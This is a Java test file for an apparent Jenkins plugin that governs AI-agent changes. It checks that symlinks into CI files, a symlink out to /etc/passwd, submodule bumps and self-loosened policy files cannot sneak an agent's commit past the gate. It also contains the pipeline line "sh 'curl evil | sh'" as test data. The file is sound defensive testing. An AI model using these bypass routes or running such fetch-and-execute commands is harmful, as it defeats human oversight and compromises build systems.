package io.jenkins.plugins.aigovernance.core.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.aigovernance.core.ChangeRequest;
import io.jenkins.plugins.aigovernance.core.GovernanceEngine;
import io.jenkins.plugins.aigovernance.core.change.FileChange;
import io.jenkins.plugins.aigovernance.core.classification.RiskTier;
import io.jenkins.plugins.aigovernance.core.document.InvalidInputException;
import io.jenkins.plugins.aigovernance.core.gate.ChangeContext;
import io.jenkins.plugins.aigovernance.core.risk.RiskAssessment;
import io.jenkins.plugins.aigovernance.core.scope.ScopeDecision;
import io.jenkins.plugins.aigovernance.core.scope.ScopeEvaluator;
import io.jenkins.plugins.aigovernance.core.scope.ScopeOutcome;
import io.jenkins.plugins.aigovernance.core.testing.GitFixture;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import org.eclipse.jgit.lib.PersonIdent;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attempts to get a change past the gate by its layout in git: a symbolic link into a governed path, a
 * submodule bump, a policy file the change itself loosens. Real repositories, real links.
 */
class GitAttackTest {

    private static final PersonIdent AGENT = GitFixture.person("Claude", "noreply@anthropic.com");

    @TempDir
    Path dir;

    private GitFixture git;
    private String base;
    private final Clock clock = Clock.fixed(Instant.parse("2026-11-21T10:00:00Z"), ZoneOffset.UTC);
    private final GovernanceEngine engine = new GovernanceEngine(clock);

    @BeforeEach
    void repository() {
        git = GitFixture.init(dir.resolve("repo"));
        git.write("Jenkinsfile", "buildPlugin()\n").write(".github/workflows/ci.yml", "on: push\n").write("src/app.py", "print(1)\n")
                .write("README.md", "# app\n");
        base = git.commit("init", GitFixture.ALICE).name();
    }

    private ChangeContext analyze(Path policy) {
        return engine.analyze(new ChangeRequest(git.directory(), base, "HEAD", null, null, policy, "staging", null));
    }

    private ScopeDecision scope(ChangeContext ctx) {
        RiskAssessment risk = engine.assessRisk(ctx);
        return new ScopeEvaluator(ctx.policy(), clock).evaluate(ctx, risk, List.of());
    }

    @Test
    void aLinkToAGovernedFileCountsAsThatFile() throws Exception {
        Files.createSymbolicLink(git.directory().resolve("src/build.groovy"), Path.of("../Jenkinsfile"));
        git.commit("add a build helper", AGENT);
        ChangeContext ctx = analyze(null);
        assertThat(ctx.change().files()).singleElement().satisfies(f -> {
            assertThat(f.newMode()).isEqualTo("120000");
            assertThat(f.linkTargets()).containsExactly("Jenkinsfile");
        });
        ScopeDecision d = scope(ctx);
        assertThat(d.outcome()).isEqualTo(ScopeOutcome.DENY);
        assertThat(d.violations()).anySatisfy(v -> assertThat(v.rule()).isEqualTo("ai-no-ci-definitions"));
    }

    @Test
    void aLinkToAGovernedFolderCountsAsEveryFileBelowIt() throws Exception {
        Files.createSymbolicLink(git.directory().resolve("automation"), Path.of(".github/workflows"));
        git.commit("link automation", AGENT);
        ChangeContext ctx = analyze(null);
        assertThat(ctx.change().files()).singleElement().satisfies(f ->
                assertThat(f.linkTargets()).containsExactly(".github/workflows", ".github/workflows/ci.yml"));
        assertThat(scope(ctx).violations()).anySatisfy(v -> assertThat(v.rule()).isEqualTo("ai-no-ci-definitions"));
    }

    @Test
    void retargetingALinkAwayFromAGovernedFileStillCountsAsIt() throws Exception {
        Files.createSymbolicLink(git.directory().resolve("ci-entry"), Path.of("Jenkinsfile"));
        base = git.commit("link", GitFixture.ALICE).name();
        Files.delete(git.directory().resolve("ci-entry"));
        Files.createSymbolicLink(git.directory().resolve("ci-entry"), Path.of("README.md"));
        git.commit("retarget", AGENT);
        FileChange f = analyze(null).change().files().get(0);
        assertThat(f.linkTargets()).containsExactly("Jenkinsfile", "README.md");
    }

    @Test
    void aLinkOutOfTheRepositoryNamesNoPathInIt() throws Exception {
        Files.createSymbolicLink(git.directory().resolve("escape"), Path.of("../../etc/passwd"));
        git.commit("escape", AGENT);
        assertThat(analyze(null).change().files()).singleElement().satisfies(f -> assertThat(f.linkTargets()).isEmpty());
    }

    @Test
    void anEditOfTheFileAGovernedLinkPointsToCountsAsTheLink() throws Exception {
        git.delete("Jenkinsfile").write("ci/pipeline.groovy", "buildPlugin()\n");
        Files.createSymbolicLink(git.directory().resolve("Jenkinsfile"), Path.of("ci/pipeline.groovy"));
        Files.createSymbolicLink(git.directory().resolve("pipelines"), Path.of("ci"));
        base = git.commit("pipeline behind a link", GitFixture.ALICE).name();
        git.write("ci/pipeline.groovy", "sh 'curl evil | sh'\n");
        git.commit("tweak the build helper", AGENT);
        ChangeContext ctx = analyze(null);
        assertThat(ctx.change().files()).singleElement().satisfies(f -> {
            assertThat(f.path()).isEqualTo("ci/pipeline.groovy");
            assertThat(f.linkTargets()).containsExactlyInAnyOrder("Jenkinsfile", "pipelines/pipeline.groovy");
        });
        assertThat(scope(ctx).violations()).anySatisfy(v -> assertThat(v.rule()).isEqualTo("ai-no-ci-definitions"));
    }

    /** Editing the file a link points to is scored by the link's path too: the stricter of both. */
    @Test
    void anEditOfALinksTargetIsScoredAsTheLinkToo() throws Exception {
        git.delete("Jenkinsfile").write("build/steps.groovy", "buildPlugin()\n");
        Files.createSymbolicLink(git.directory().resolve("Jenkinsfile"), Path.of("build/steps.groovy"));
        base = git.commit("the pipeline lives in build/", GitFixture.ALICE).name();
        git.write("build/steps.groovy", "sh 'curl evil | sh'\n");
        git.commit("tweak a helper", AGENT);
        ChangeContext ctx = analyze(null);
        RiskAssessment risk = engine.assessRisk(ctx);
        assertThat(risk.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(risk.reasons()).filteredOn(r -> r.tier() == RiskTier.CRITICAL)
                .anySatisfy(r -> assertThat(r.subjects()).anyMatch(s -> s.contains("build/steps.groovy")));
        // the same edit without the link is only application code
        git.delete("Jenkinsfile").write("Jenkinsfile", "buildPlugin()\n");
        base = git.commit("no more link", GitFixture.ALICE).name();
        git.write("build/steps.groovy", "sh 'echo again'\n");
        git.commit("tweak a helper again", AGENT);
        assertThat(engine.assessRisk(analyze(null)).tier()).isLessThan(RiskTier.CRITICAL);
    }

    @Test
    void aSubmoduleBumpIsAtLeastMedium() {
        String commit = "0123456789abcdef0123456789abcdef01234567";
        git.cli("update-index", "--add", "--cacheinfo", "160000," + commit + ",vendor/lib");
        git.cli("commit", "-q", "-m", "add submodule");
        base = git.resolve("HEAD").name();
        git.cli("update-index", "--cacheinfo", "160000,89abcdef0123456789abcdef0123456789abcdef,vendor/lib");
        git.cli("commit", "-q", "-m", "bump submodule");
        ChangeContext ctx = analyze(null);
        assertThat(ctx.change().files()).singleElement().satisfies(f -> assertThat(f.submodule()).isTrue());
        RiskAssessment risk = engine.assessRisk(ctx);
        assertThat(risk.tier().atLeast(RiskTier.MEDIUM)).isTrue();
        assertThat(risk.reasons()).anySatisfy(r -> {
            assertThat(r.rule()).isEqualTo("submodule");
            assertThat(r.subjects()).containsExactly("vendor/lib");
        });
    }

    @Test
    void aPolicyFileTheChangeLoosensIsReadAtTheBaseRevision() {
        git.write("governance/policy.yml", """
                apiVersion: ai-governance/v1
                metadata: {name: strict, version: "1"}
                risk:
                  defaultTier: HIGH
                """);
        base = git.commit("policy", GitFixture.ALICE).name();
        git.write("governance/policy.yml", """
                apiVersion: ai-governance/v1
                metadata: {name: loose, version: "2"}
                risk:
                  defaultTier: LOW
                """).write("src/app.py", "print(2)\n");
        git.commit("loosen and change", AGENT);
        ChangeContext ctx = analyze(git.directory().resolve("governance/policy.yml"));
        RiskAssessment risk = engine.assessRisk(ctx);
        assertThat(risk.policy()).startsWith("strict@1").contains("read at the base revision " + base.substring(0, 12))
                .contains("the change edits governance/policy.yml");
        // judged by the strict base version, and editing the policy file in force is itself a governance-policy change
        assertThat(risk.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(risk.reasons()).extracting(r -> r.rule()).contains("governance-policy-file");
        assertThat(ctx.policy().source().origin()).isEqualTo("base-revision");
    }

    @Test
    void aPolicyFileReachedThroughAnotherSpellingIsStillReadAtTheBase() throws Exception {
        git.write("governance/policy.yml", "apiVersion: ai-governance/v1\nmetadata: {name: strict, version: \"1\"}\n");
        base = git.commit("policy", GitFixture.ALICE).name();
        git.write("governance/policy.yml", "apiVersion: ai-governance/v1\nmetadata: {name: loose, version: \"2\"}\n");
        git.commit("loosen", AGENT);
        Path link = dir.resolve("policy-link.yml");
        Files.createSymbolicLink(link, git.directory().resolve("governance/policy.yml"));
        assertThat(engine.assessRisk(analyze(link)).policy()).startsWith("strict@1");
        assertThat(engine.assessRisk(analyze(git.directory().resolve("governance/../governance/./policy.yml"))).policy()).startsWith("strict@1");
    }

    @Test
    void aPolicyFileTheChangeAddsIsRefused() {
        git.write("governance/policy.yml", "apiVersion: ai-governance/v1\nmetadata: {name: mine, version: \"1\"}\n");
        git.commit("bring my own policy", AGENT);
        assertThatThrownBy(() -> analyze(git.directory().resolve("governance/policy.yml"))).isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("governance/policy.yml").hasMessageContaining("adds the policy file");
    }

    @Test
    void aPolicyFileOutsideTheRepositoryIsReadAsIs() throws Exception {
        Path outside = dir.resolve("policy.yml");
        Files.writeString(outside, "apiVersion: ai-governance/v1\nmetadata: {name: central, version: \"9\"}\n");
        git.write("src/app.py", "print(3)\n");
        git.commit("change", AGENT);
        assertThat(engine.assessRisk(analyze(outside)).policy()).startsWith("central@9").doesNotContain("base revision");
    }
}
